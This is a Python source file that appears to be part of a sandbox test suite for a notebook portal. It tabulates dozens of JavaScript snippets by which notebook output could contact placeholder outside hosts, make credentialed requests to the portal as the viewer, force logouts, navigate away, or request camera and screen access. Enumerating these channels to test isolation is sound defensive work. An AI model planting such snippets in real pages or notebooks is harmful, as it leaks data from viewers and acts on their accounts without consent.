# ruff: noqa: E501  (a row of the table is a line)
"""What the output of a notebook tries in the browser of who reads it, as a numbered table.

`URL` stands for an address elsewhere that names the attempt, `SOCKET` for the same as a websocket, `PORTAL` for the
portal's address, `TURN` for host and port elsewhere. `node(html)` puts HTML into the page as an output would.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Attempt:
    """One try; `leaves` when it would take the lab's page away, so that it is tried on a page of its own."""

    number: int
    name: str
    script: str
    leaves: bool = False


_STAY = (
    ("image", "new Image().src = 'URL'"),
    ("image with srcset", "node('<img srcset=\"URL 2x\">')"),
    ("style by url", "node('<div style=\"background-image:url(URL)\">x</div>')"),
    ("style sheet", "node('<link rel=stylesheet href=\"URL\">')"),
    ("style by import", "node('<style>@import url(URL);</style>')"),
    ("font", "new FontFace('leak', 'url(URL)').load()"),
    ("script", "const s = document.createElement('script'); s.src = 'URL'; document.head.append(s)"),
    ("module script", "const s = document.createElement('script'); s.type = 'module'; s.src = 'URL'; document.head.append(s)"),
    ("import()", "import('URL')"),
    ("fetch", "fetch('URL')"),
    ("fetch without reading", "fetch('URL', {mode: 'no-cors', keepalive: true})"),
    ("XMLHttpRequest", "const x = new XMLHttpRequest(); x.open('GET', 'URL'); x.send()"),
    ("beacon", "navigator.sendBeacon('URL', 'x')"),
    ("EventSource", "new EventSource('URL')"),
    ("websocket", "new WebSocket('SOCKET')"),
    ("WebTransport", "new WebTransport('URL'.replace('http:', 'https:'))"),
    ("iframe", "node('<iframe src=\"URL\"></iframe>')"),
    ("iframe with srcdoc", "node('<iframe srcdoc=\"<img src=URL>\"></iframe>')"),
    ("iframe of a data address", "node('<iframe src=\"data:text/html,<img src=URL>\"></iframe>')"),
    ("iframe of a blob", "const f = document.createElement('iframe'); f.src = window.URL.createObjectURL(new Blob(['<img src=URL>'], {type: 'text/html'})); document.body.append(f)"),
    ("object", "node('<object data=\"URL\"></object>')"),
    ("embed", "node('<embed src=\"URL\">')"),
    ("link prefetch", "node('<link rel=prefetch href=\"URL\">')"),
    ("link preload", "node('<link rel=preload as=image href=\"URL\">')"),
    ("link modulepreload", "node('<link rel=modulepreload href=\"URL\">')"),
    ("link preconnect", "node('<link rel=preconnect href=\"URL\">')"),
    ("link dns-prefetch", "node('<link rel=dns-prefetch href=\"URL\">')"),
    ("link icon", "const l = document.createElement('link'); l.rel = 'icon'; l.href = 'URL'; document.head.append(l)"),
    ("link manifest", "const l = document.createElement('link'); l.rel = 'manifest'; l.href = 'URL'; document.head.append(l)"),
    ("speculation rules", "const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({prefetch: [{source: 'list', urls: ['URL']}], prerender: [{source: 'list', urls: ['URL']}]}); document.head.append(s)"),
    ("popup", "window.open('URL')"),
    ("popup by link", "const a = document.createElement('a'); a.href = 'URL'; a.target = '_blank'; document.body.append(a); a.click()"),
    ("download", "const a = document.createElement('a'); a.href = 'URL'; a.download = 'x'; a.target = 'nowhere'; document.body.append(a); a.click()"),
    ("ping of a link", "const a = document.createElement('a'); a.href = '#'; a.ping = 'URL'; document.body.append(a); a.click()"),
    ("form into a new window", "node('<form action=\"URL\" method=post target=_blank></form>').querySelector('form').submit()"),
    ("form into a frame", "node('<iframe name=inner></iframe><form action=\"URL\" method=post target=inner></form>').querySelector('form').submit()"),
    ("service worker", "navigator.serviceWorker.register('URL')"),
    ("worker", "new Worker('URL')"),
    ("module worker of a blob", "new Worker(window.URL.createObjectURL(new Blob([\"import 'URL'\"], {type: 'text/javascript'})), {type: 'module'})"),
    ("fetch in a worker of a blob", "new Worker(window.URL.createObjectURL(new Blob([\"fetch('URL'); importScripts('URL')\"], {type: 'text/javascript'})))"),
    ("shared worker", "new SharedWorker('URL')"),
    ("SVG image", "node('<svg><image href=\"URL\" width=9 height=9 /></svg>')"),
    ("SVG use", "node('<svg><use href=\"URL#x\" /></svg>')"),
    ("SVG filter", "node('<svg><filter id=f><feImage href=\"URL\" /></filter><rect filter=\"url(#f)\" width=9 height=9 /></svg>')"),
    ("video", "node('<video src=\"URL\" autoplay muted></video>')"),
    ("video poster", "node('<video poster=\"URL\"></video>')"),
    ("audio", "node('<audio src=\"URL\" autoplay></audio>')"),
    ("subtitles", "node('<video><track default src=\"URL\"></video>').querySelector('track').track.mode = 'showing'"),
    ("base address", "node('<base href=\"URL/\">'); new Image().src = 'below-the-base'"),
    ("input image", "node('<input type=image src=\"URL\">')"),
    ("reporting observer", "node('<meta http-equiv=\"Content-Security-Policy\" content=\"img-src none; report-uri URL\"><img src=x:y>')"),
    ("message to the page around", "parent.postMessage({stop: true, href: 'URL'}, '*'); top.postMessage('URL', '*')"),
    ("broadcast channel", "new BroadcastChannel('c2c').postMessage('URL')"),
    ("portal's API as the viewer", "fetch('PORTAL/api/projects', {credentials: 'include'})"),
    ("portal's API without reading", "fetch('PORTAL/api/sessions/alice/college-going/stop', {method: 'POST', mode: 'no-cors', credentials: 'include'})"),
    ("portal's form into a new window", "node('<form action=\"PORTAL/logout\" method=post target=_blank></form>').querySelector('form').submit()"),
    ("portal's form into a frame", "node('<iframe name=forms></iframe><form action=\"PORTAL/logout\" method=post target=forms></form>').querySelector('form').submit()"),
    ("portal in a frame", "node('<iframe src=\"PORTAL/sessions\"></iframe>')"),
    ("portal's page around", "top.document.querySelector('form').submit()"),
    ("opener", "window.opener.location = 'URL'"),
    ("clipboard", "navigator.clipboard.writeText('URL')"),
    ("camera", "navigator.mediaDevices.getUserMedia({video: true})"),
    ("screen", "navigator.mediaDevices.getDisplayMedia()"),
)  # fmt: skip

_LEAVE = (
    ("location", "location = 'URL'"),
    ("location.replace", "location.replace('URL')"),
    ("link in this frame", "const a = document.createElement('a'); a.href = 'URL'; document.body.append(a); a.click()"),
    ("meta refresh", "node('<meta http-equiv=refresh content=\"0;url=URL\">')"),
    ("form in this frame", "node('<form action=\"URL\" method=post></form>').querySelector('form').submit()"),
    ("top.location", "top.location = 'URL'"),
    ("link into the page around", "const a = document.createElement('a'); a.href = 'URL'; a.target = '_top'; document.body.append(a); a.click()"),
    ("navigation API", "navigation.navigate('URL')"),
    ("history", "history.pushState({}, '', 'URL')"),
    ("portal's logout as location", "location = 'PORTAL/logout'"),
    ("script as location", "location = \"javascript:fetch('URL')\""),
    ("data as location", "location = 'data:text/html,<img src=URL>'"),
    ("blob as location", "location = window.URL.createObjectURL(new Blob(['<img src=URL>'], {type: 'text/html'}))"),
)  # fmt: skip

ATTEMPTS = tuple(
    Attempt(number, name, script, number > len(_STAY)) for number, (name, script) in enumerate((*_STAY, *_LEAVE), 1)
)

WEBRTC = """
const peer = new RTCPeerConnection({iceServers: [{urls: 'stun:TURN'}]});
peer.createDataChannel('x');
peer.createOffer().then((offer) => peer.setLocalDescription(offer));
"""
